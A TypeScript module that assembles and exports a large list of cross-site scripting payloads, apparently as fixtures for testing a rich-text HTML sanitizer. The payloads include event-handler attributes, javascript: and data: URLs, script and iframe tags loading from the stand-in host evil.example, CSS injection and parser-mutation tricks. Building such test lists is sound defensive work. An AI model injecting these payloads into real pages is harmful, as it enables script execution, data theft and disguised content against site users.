/** Attributes that run a script when something happens. */
const handlers = [
  'onabort', 'onanimationend', 'onanimationstart', 'onauxclick', 'onbeforecopy', 'onbeforeinput', 'onbeforetoggle',
  'onbegin', 'onblur', 'oncanplay', 'onclick', 'oncontentvisibilityautostatechange', 'oncontextmenu', 'oncopy', 'oncut',
  'ondblclick', 'ondrag', 'ondragend', 'ondrop', 'onend', 'onerror', 'onfocus', 'onfocusin', 'onformdata',
  'ongotpointercapture', 'onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onload', 'onloadstart', 'onmessage',
  'onmousedown', 'onmouseenter', 'onmouseover', 'onmousewheel', 'onpageshow', 'onpaste', 'onpointerdown',
  'onpointerrawupdate', 'onpopstate', 'onreadystatechange', 'onrepeat', 'onresize', 'onscroll', 'onscrollend',
  'onsearch', 'onselect', 'onsubmit', 'ontoggle', 'ontouchstart', 'ontransitionend', 'onunhandledrejection',
  'onwebkitanimationstart', 'onwheel',
]; // oxfmt-ignore

const onEveryElement = handlers.flatMap((handler) => [
  `<p ${handler}=alert(1)>x</p>`,
  `<img src=x ${handler}="alert(1)" alt="x">`,
]);

/** Addresses that run a script where they are followed or loaded. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\tscript:alert(1)',
  'java\nscript:alert(1)', 'java\rscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#1;javascript:alert(1)',
  '\u0001javascript:alert(1)', '\u00a0javascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
  'javascript://example.com/%0aalert(1)', 'vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'data:,x', 'blob:https://example.com/1', 'file:///etc/passwd',
  'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!/', 'filesystem:javascript:1',
]; // oxfmt-ignore

const inEveryPlace = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}" alt="x">`,
  `<iframe src="${address}"></iframe>`,
]);

/** Elements that run, load, send or restyle something by being there. */
const elements = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>alert(1)', '<<script>alert(1)//<</script>', '</script><script>alert(1)</script>',
  '<script\x00>alert(1)</script>', '<script type="module">import("//evil.example")</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css"</style>', '<style>body{display:none}</style>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href=//evil.example/>',
  '<object data="javascript:alert(1)"></object>', '<object data=//evil.example/x.swf></object>', '<embed src="javascript:alert(1)">',
  '<embed src=//evil.example/x.svg>', '<applet code=x></applet>', '<form action=javascript:alert(1)><input type=submit></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>', '<input autofocus onfocus=alert(1)>', '<isindex action=javascript:alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>', '<title><img src=x onerror=alert(1)></title>', '<select><option onclick=alert(1)></select>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script xlink:href=//evil.example/x.js></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>', '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>', '<svg><image href=x onerror=alert(1)></svg>',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>', '<math href=javascript:alert(1)>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<video><source onerror=alert(1)></video>', '<video poster=javascript:alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<body onload=alert(1)>', '<html onmouseover=alert(1)>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example></iframe>', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example/www.youtube.com"></iframe>', '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com:444/embed/x"></iframe>', '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com/embed/x"></iframe>', '<iframe></iframe>', '<portal src=//evil.example></portal>', '<dialog open onclose=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<listing><img src=x onerror=alert(1)></listing>',
  '<noembed><img src=x onerror=alert(1)></noembed>', '<noframes><img src=x onerror=alert(1)></noframes>', '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>', '<slot onslotchange=alert(1)></slot>', '<x onclick=alert(1)>x</x>',
  '<a id=location name=location href=x>x</a>', '<img name=getElementById>', '<form id=document></form>', '<p id=cookie class=modal is=x-evil>x</p>',
  '<a href=x ping=//evil.example>x</a>', '<img srcset="//evil.example/x 1x" src=/x>', '<a target=_blank rel=opener href=//evil.example>x</a>',
]; // oxfmt-ignore

/** Styles that cover the page, load something, or once ran a script. */
const styles = [
  'background:url(javascript:alert(1))', 'background-image:url(//evil.example/x)', 'width:expression(alert(1))', 'behavior:url(x.htc)',
  '-moz-binding:url(//evil.example/x)', 'position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999', 'color:red;position:absolute',
  'font-family:x;background:url(//evil.example)', 'color:\\65xpression(alert(1))', 'color:red/**/;display:none', 'content:"x"', '--x:url(//evil.example)',
  'list-style:url(//evil.example/x)', 'cursor:url(//evil.example/x),auto', 'font-family:"x;background:url(//evil.example)"',
  'color:rgb(1,2,3);background-color:url(//evil.example)', 'width:99999px', 'font-size:calc(100vw * 99)', 'color:var(--x)', 'opacity:0',
].map((style) => `<p style='${style}'>x</p>`); // oxfmt-ignore

/** What is harmless when read once and harmful when it is written out and read again. */
const mutations = [
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>', '<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></style></table></mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<math><![CDATA[><img src=x onerror=alert(1)>]]></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>', '<svg><foreignobject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignobject></svg>',
  '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>-->', '<!--x--!><img src=x onerror=alert(1)>', '<!-- --!> <script>alert(1)</script>', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>', '<?x ><img src=x onerror=alert(1)>?>', '<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;', '</ x><img src=x onerror=alert(1)>',
  '<p title="`<img src=x onerror=alert(1)>">x</p>', '<img alt="``onerror=alert(1)" src=/x>', '<img alt="</p><script>alert(1)</script>" src=/x>', '<a href="/x" title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<title><p title="</title><img src=x onerror=alert(1)>"></title>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>', '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<select><style></select><img src=x onerror=alert(1)></style>', '<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>"></template></select>', '<table><style><img src=x onerror=alert(1)></style></table>',
  '<table><td><svg><style></td></table><img src=x onerror=alert(1)>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>', '<p>&#60;img src=x onerror=alert(1)&#62;</p>',
  '<img src="/x" alt="&#34; onerror=alert(1) x=&#34;">', '<img/src=x/onerror=alert(1)>', '<img\x0csrc=x\x0conerror=alert(1)>', '<img src=x\x00onerror=alert(1)>', '<img """><script>alert(1)</script>">', '<a href="\x00javascript:alert(1)">x</a>',
  '<b <script>alert(1)</script>x</b>', '<div/onmouseover=alert(1)>x', '<p/style=position:fixed>x', '<img src=x onerror=alert(1)', '<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>', '<a href=//evil.example onclick=alert(1)//>x',
]; // oxfmt-ignore

/** Known ways to get a script, a foreign frame or a disguise into a page by way of rich text. */
export const payloads: readonly string[] = [
  ...onEveryElement,
  ...inEveryPlace,
  ...elements,
  ...styles,
  ...mutations,
];
